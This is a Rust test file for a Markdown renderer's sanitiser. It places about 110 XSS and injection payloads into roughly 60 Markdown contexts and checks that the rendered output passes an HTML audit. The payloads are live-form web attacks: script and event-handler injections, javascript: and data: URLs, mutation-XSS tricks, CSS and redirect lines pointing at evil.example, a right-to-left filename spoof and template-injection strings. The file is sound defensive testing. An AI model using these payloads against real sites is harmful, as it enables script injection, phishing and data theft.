//! Every attack in every place that takes text. What comes out passes the audit, so a hole anywhere fails here.

use super::*;
use crate::conversation::highlight::code_block;

/// Texts that have run script, broken out of an element, or led elsewhere, in some Markdown renderer or sanitiser of the past.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</code></pre></figure><script>alert(1)</script>",
    "</p></div></article><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline#https://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style=\"background:url(https://evil.example/)\">x</p>",
    "<div style=position:fixed;inset:0;z-index:9>x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=//evil.example>x</a>",
    "<a id=x name=y class=z>w</a>",
    "<b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details><summary onclick=alert(1)>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<form action=https://evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u{2028}<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "blob:https://evil.example/1",
    "view-source:javascript:alert(1)",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/`onmouseover=`alert(1)",
    "https://a.example@evil.example/",
    "https://evil.example/<script>alert(1)</script>",
    "mailto:a@b.example?subject=<script>alert(1)</script>",
    "\" onclick=\"alert(1)",
    "' onclick='alert(1)",
    "\"autofocus onfocus=alert(1) x=\"",
    "x\" style=\"position:fixed",
    "x\u{202e}gnp.exe\u{2066}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= system('x') %>",
    "]]>",
    "-->",
    "*/alert(1)/*",
    "\\\"><script>alert(1)</script>",
];

/// Places in Markdown, `{}` for the text.
const PLACES: &[&str] = &[
    "{}",
    "a {} b",
    "# {}",
    "{}\n===",
    "> {}",
    "- {}",
    "- [x] {}",
    "1. a\n\n   {}",
    "**{}**",
    "~~{}~~",
    "`{}`",
    "    {}",
    "```{}\nx\n```",
    "```js title=\"{}\"\nx\n```",
    "```js:{}\nx\n```",
    "```html\n{}\n```",
    "```math\n{}\n```",
    "```diff\n+{}\n```",
    "```mermaid\n{}\n```",
    "~~~\n{}",
    "| {} | b |\n|---|---|\n| a | {} |",
    "[{}](https://a.example)",
    "[x]({})",
    "[x](<{}>)",
    "[x](https://a.example \"{}\")",
    "[x](https://a.example '{}')",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: https://a.example \"{}\"",
    "[{}]\n\n[{}]: https://a.example",
    "![{}](https://a.example/x.png)",
    "![x]({})",
    "![x](https://a.example/x.png \"{}\")",
    "[![{}]({})]({})",
    "<{}>",
    "<https://a.example/{}>",
    "https://a.example/{}",
    "a[^{}]\n\n[^{}]: {}",
    "a[1](cite:{})",
    "[{}](cite:1)",
    "> [!NOTE] {}\n> {}",
    "> [!{}]\n> x",
    "<details><summary>{}</summary>\n\n{}\n\n</details>",
    "<details>\n<summary>x</summary>\n{}\n</details>",
    "<kbd>{}</kbd>",
    "<b>{}</b> <sub>{}</sub>",
    "<div>\n{}\n</div>",
    "<!-- {} -->",
    "$ {} $",
    "${}$",
    "$x_{{}}$",
    "$$\n{}\n$$",
    "\\({}\\)",
    "\\[{}\\]",
    "\\(\\text{{}}\\)",
    "\\(\\operatorname{{}}\\)",
    "\\(\\color{{}}x\\)",
    "\\(\\href{{}}{x}\\)",
    "\\(\\begin{{}}x\\end{{}}\\)",
    "{}\n\n{}",
    "*{}_{}*_",
];

#[test]
fn every_attack_in_every_place() {
    let mut tried = 0;
    for place in PLACES {
        for attack in ATTACKS {
            let text = place.replace("{}", attack);
            // Both judge what they return.
            rendered(&text);
            typed(&text);
            tried += 1;
        }
    }
    assert!(tried > 6_000);
}

#[test]
fn every_attack_in_what_stands_beside_the_text() {
    for attack in ATTACKS {
        for html in [
            code_block(attack, Some(attack), Some(attack)),
            code_block(attack, Some("html"), None),
            code_block(attack, None, Some("a.rs")),
            source(attack),
        ] {
            audit(&html).unwrap_or_else(|fault| panic!("{fault}\nin {html}"));
        }
        let citation = |id: &str, url: Option<&str>| Citation {
            id: id.into(),
            url: url.map(Into::into),
            title: Some((*attack).into()),
            snippet: Some((*attack).into()),
            site: Some((*attack).into()),
        };
        let citations = [citation("1", Some(attack)), citation(attack, Some("https://a.example/")), citation("3", None)];
        let text = format!("a[1](cite:1) b[2](<cite:{attack}>) c[words](cite:3)");
        let html = assistant(&text, &Context { id_prefix: PREFIX, citations: &citations });
        audit(&html).unwrap_or_else(|fault| panic!("{fault}\nin {html}"));
        let line = plain(attack, 100);
        assert!(!line.contains(['\u{202e}', '\0', '\n']), "{line}");
    }
}

/// Between them, the places show every kind of markup that the renderer has; attacks in places that show nothing would prove nothing.
#[test]
fn the_places_are_alive() {
    let all: String = PLACES.iter().map(|place| rendered(&place.replace("{}", "y"))).collect();
    for tag in [
        "<h3",
        "<blockquote",
        "<li",
        "<input",
        "<strong",
        "<del",
        "<code",
        "<figure",
        "<table",
        "<a href=\"https",
        "class=\"remote-image\"",
        "class=\"footnotes\"",
        "class=\"cite\"",
        "class=\"alert",
        "<details",
        "<kbd",
        "<sub",
        "<math",
        "title=\"y\"",
    ] {
        assert!(all.contains(tag), "{tag}");
    }
}
